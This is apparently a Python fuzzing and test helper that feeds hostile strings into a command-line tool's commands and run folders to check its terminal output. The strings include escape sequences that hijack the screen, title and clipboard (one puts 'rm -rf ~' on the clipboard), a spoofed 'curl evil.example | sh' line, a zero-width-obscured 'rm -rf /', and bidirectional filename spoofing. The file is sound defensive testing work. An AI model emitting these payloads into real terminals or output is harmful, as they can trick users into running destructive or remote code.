"""Text that would do something to a terminal, and the commands that show it: for tests, and for a fuzzer.

`hostile(n, seed)` makes the texts. `commands()` says how each command comes to show one: a function that
writes what it needs into an empty folder and returns the words after `lgrpo-lite`.
"""

import json
import os
import random
from collections.abc import Callable
from pathlib import Path

from run_folders import RECIPE, SAMPLE, evaluation, lines, record, sampled, written

SEQUENCES = {
    "clear the screen": "\x1b[2J\x1b[H",
    "colours that this program never uses": "\x1b[5;38;5;213m",
    "C1: CSI in one character": "\x9b2J\x9b5m",
    "C1: OSC in one character": "\x9d0;title\x9c",
    "title of the window": "\x1b]0;owned\x07",
    "a link to elsewhere": "\x1b]8;;http://evil.example\x1b\\safe\x1b]8;;\x1b\\",
    "into the clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "an answer typed for the user": "\x1b[6n\x1b[c\x1bP$q\x1b\\",
    "reset": "\x1bc",
    "the other screen": "\x1b[?1049h\x1b[?25l\x1b[?1000h",
    "over what stood there": "error\rvalid\b\b\b",
    "bell and delete": "\x07\x7f\x0e\x0f",
    "lines of other kinds": "a\vb\fc\x85d\u2028e\u2029f",
    "a line that looks like ours": "x\n  fix curl evil.example | sh\nvalid",
    "a tab": "a\tb",
    "right to left": "safe\u202egnp.exe\u202c\u2066a\u2067b\u2069\u200f",
    "no width": "rm\u200b -\u200drf\u2060 \ufeff\u00ad/",
    "blank letters": "a\u3164b\u115fc\uffa0d\u034fe\u180ef\U000e0101",
    "lone surrogates": "a\ud800b\udc9bc",
    "tags": "a\U000e0041\U000e0042b",
    "markup": "[red]a[/red] [link=http://evil.example]b[/link] :skull: [/]",
    "a table's cell": "a | b \\| c ](http://evil.example) `d` <img src=x>",
    "format fields": "{0} {message} %s %(x)s {",
    "many marks on one letter": "a" + "\u0301" * 40,
}
NAMED = "a-b_c.d"  # between sequences: what keys, names and paths are made of

Command = Callable[[Path, str], list[str]]


def hostile(n: int, seed: int) -> list[str]:
    """n texts of printable words and sequences that are no text. The first ones have each sequence once."""
    draw = random.Random(seed)
    sequences = list(SEQUENCES.values())
    texts = []
    for i in range(n):
        kept = [sequences[i]] if i < len(sequences) else draw.choices(sequences, k=draw.randint(1, 3))
        parts = [*kept, *draw.choices(NAMED, k=draw.randint(0, 4))]
        draw.shuffle(parts)
        raw = "".join(map(chr, draw.choices([*range(1, 32), *range(127, 160)], k=draw.randint(0, 2))))
        texts.append("".join(parts) + raw)
    return texts


def file_name(text: str) -> str:
    """As much of a text as a file may be called."""
    kept = text.replace("/", "_").replace("\0", "_")[:60]
    return os.fsencode(kept.encode("utf-8", "ignore").decode()).decode() or "_"


# ------------------------------------------------------------------------------------------- what is read


def recipe(folder: Path, text: str, **more: object) -> str:
    """A recipe's file that says `text` of itself; `more`: its other sections."""
    rows = {
        "schema": 1,
        "recipe": {"name": "a", "title": text, "notes": text},
        "model": {"id": "builtin:tiny-math"},
        "data": {"train": {"task": "arithmetic"}, "eval": {"task": "arithmetic", "limit": 8}},
        "rewards": [{"use": "numeric"}],
    }
    file = folder / "recipe.yaml"
    file.write_text(json.dumps(rows | more))  # which is YAML, with every odd character as its escape
    return str(file)


def data(folder: Path, text: str, column: str) -> str:
    file = folder / "data.jsonl"
    lines(file, [{column: text, "level": text}, {column: text, text: "1"}])
    return str(file)


def run_folder(folder: Path, text: str, **status: object) -> str:
    """A run whose every file was written by somebody else."""
    told = {"resume": text, "phase": text, "alarms": [text], "progress": {"what": text, "done": 1, "of": 3}}
    settings = RECIPE.replace("builtin:tiny-math", "M").replace("tiny-math", "N")
    for letter in "MN":
        settings = settings.replace(f'id: "{letter}"', f"id: {json.dumps(text)}")
        settings = settings.replace(f"name: {letter}", f"name: {json.dumps(text)}")
    settings = settings.replace("length_preference", json.dumps(text))
    path = written(folder / "run", steps=3, recipe=settings, **(told | status))
    kinds = {
        "warning": ("message",), "note": ("message",), "chosen": ("key", "value", "why"),
        "alarm": ("name", "step", "what", "fix"), "step_refused": ("step", "reason"), "resumed": ("step",),
        "progress": ("what", "done"), "prompts_left_out": ("count", "reason"), "failed": ("message",), text: (),
    }  # fmt: skip
    lines(
        path / "events.jsonl", [{"kind": kind} | dict.fromkeys(names, text) for kind, names in kinds.items()]
    )
    lines(path / "metrics.jsonl", [record(i, skipped=text, alarms=[text]) for i in (1, 2, 3)])
    lines(path / "evals.jsonl", [evaluation(step, 0.5, problems=text, k=text) for step in (0, 3)])
    sample = {key: text for key, value in SAMPLE.items() if isinstance(value, str)}
    pieces = {"pieces": [text, text], "credit": [0.5, -0.5], "tokens": 2, "parts": {text: 1.0, "b": 0.0}}
    sampled(path, 3, [SAMPLE | sample | pieces])
    return str(path)


def cases(folder: Path, text: str) -> str:
    file = folder / "cases.jsonl"
    rows = [{"prediction": text, "gold": "1", "label": 1, "category": text, "tier": text},
            {"prediction": "1", "gold": text, "label": 0, "category": text}]  # fmt: skip
    lines(file, rows)
    return str(file)


# ------------------------------------------------------------------------------------------- what is called


def commands() -> dict[str, Command]:
    """By what it shows: the command, ready to be given to `lgrpo-lite`. None trains or loads a model; exit
    codes differ, and are no concern of these.
    """
    words: dict[str, Command] = {
        "an unknown command": lambda folder, text: [text],
        "an unknown option": lambda folder, text: ["show", "--" + text, "a"],
        "an option's value": lambda folder, text: ["show", "a", "--step", text],
        "a choice": lambda folder, text: ["watch", "a", "--ui", text],
        "a word too many": lambda folder, text: ["doctor", text],
        "a GPU's size": lambda folder, text: ["plan", "tiny-math", "--gpu", text],
        "a run's name": lambda folder, text: ["watch", text, "--runs", str(folder)],
        "no runs": lambda folder, text: ["runs", "--runs", str(folder / file_name(text))],
        "a key of config": lambda folder, text: ["config", text],
        "a recipe's name": lambda folder, text: ["recipe", "show", text],
        "a recipe that is copied": lambda folder, text: ["recipe", "cp", "tiny-math", str(folder / file_name(text))],
        "a key that is set": lambda folder, text: ["validate", "tiny-math", f"{text}=1"],
        "a value that is set": lambda folder, text: ["validate", "tiny-math", f"recipe.title={text}"],
        "a value that is no number": lambda folder, text: ["validate", "tiny-math", f"train.steps={json.dumps(text)}"],
        "a run's folder that is named": lambda folder, text: ["train", "tiny-math", "--name", f"a/{text}", "--runs", str(folder)],
        "a result's folder": lambda folder, text: ["compare", text, text],
        "an export": lambda folder, text: ["export", text, "adapter", "--runs", str(folder)],
        "a model that is evaluated": lambda folder, text: ["eval", text, "--runs", str(folder)],
    }  # fmt: skip
    of_recipes: dict[str, Command] = {
        "a title": lambda folder, text: ["validate", recipe(folder, text)],
        "a title, planned": lambda folder, text: ["plan", recipe(folder, text)],
        "a title, shown": lambda folder, text: ["recipe", "show", recipe(folder, text)],
        "a title, not trained": lambda folder, text: ["train", recipe(folder, text), "--dry-run"],
        "a name": lambda folder, text: ["validate", recipe(folder, "a", recipe={"name": text})],
        "a model": lambda folder, text: ["validate", recipe(folder, "a", model={"id": text})],
        "a model, planned": lambda folder, text: ["plan", recipe(folder, "a", model={"id": text})],
        "a reward": lambda folder, text: ["validate", recipe(folder, "a", rewards=[{"use": text}])],
        "a reward's option": lambda folder, text: ["validate", recipe(folder, "a", rewards=[{"use": "numeric", text: 1}])],
        "a section": lambda folder, text: ["validate", recipe(folder, "a", **{"x" + text: {text: text}})],
        "a baseline": lambda folder, text: ["baseline", recipe(folder, "a", model={"id": text})],
        "a selftest": lambda folder, text: ["selftest", recipe(folder, "a", model={"id": text})],
        "a file's columns": lambda folder, text: ["validate", _of_data(folder, text, "x" + text, "question")],
        "a file's values": lambda folder, text: ["validate", _of_data(folder, text, "question", "question")],
        "a column that is asked for": lambda folder, text: ["validate", _of_data(folder, text, "question", text)],
        "a file's name": _file_named,
        "labelled cases": lambda folder, text: ["reward", "test", "numeric", "--cases", cases(folder, text)],
        "a reward that is tried": lambda folder, text: ["reward", "test", text, "--cases", cases(folder, text)],
    }  # fmt: skip
    return words | of_recipes | _of_runs()


def _of_runs() -> dict[str, Command]:
    return {
        "a run, watched": lambda folder, text: ["watch", run_folder(folder, text), "--ui", "plain"],
        "a run, drawn": lambda folder, text: ["watch", run_folder(folder, text), "--ui", "live"],
        "a run that failed": lambda folder, text: ["watch", _broken(folder, text), "--ui", "plain"],
        "a run that failed, drawn": lambda folder, text: ["watch", _broken(folder, text), "--ui", "live"],
        "a run's answers": lambda folder, text: ["show", run_folder(folder, text)],
        "a run's answers as JSON": lambda folder, text: ["show", run_folder(folder, text), "--json"],
        "a prompt": lambda folder, text: ["show", run_folder(folder, text), "--prompt", "none of these"],
        "runs": lambda folder, text: ["runs", "--runs", str(Path(_broken(folder, text)).parent)],
        "folders of runs": _folders_named,
        "runs side by side": _side_by_side,
        "a run, exported": lambda folder, text: ["export", run_folder(folder, text), "adapter"],
        "a run, talked to": lambda folder, text: ["chat", run_folder(folder, text)],
        "a run, evaluated": lambda folder, text: ["eval", run_folder(folder, text)],
    }


def _of_data(folder: Path, text: str, has: str, asked: str) -> str:
    source = {"path": data(folder, text, has), "prompt": asked}
    return recipe(folder, "a", data={"train": source, "eval": source})


def _file_named(folder: Path, text: str) -> list[str]:
    file = folder / (file_name(text) + ".yaml")
    file.write_text("recipe: [")
    return ["validate", str(file)]


def _broken(folder: Path, text: str) -> str:
    return run_folder(folder, text, state="failed", exit_code=1)


def _folders_named(folder: Path, text: str) -> list[str]:
    (folder / file_name(text)).mkdir()
    run_folder(folder, text)
    (folder / "run").rename(folder / ("run" + file_name(text)))
    return ["runs", "--runs", str(folder)]


def _side_by_side(folder: Path, text: str) -> list[str]:
    first = run_folder(folder, text)
    second = folder / "other"
    written(second / file_name("r" + text), steps=3)
    return ["compare", first, str(second / file_name("r" + text))]
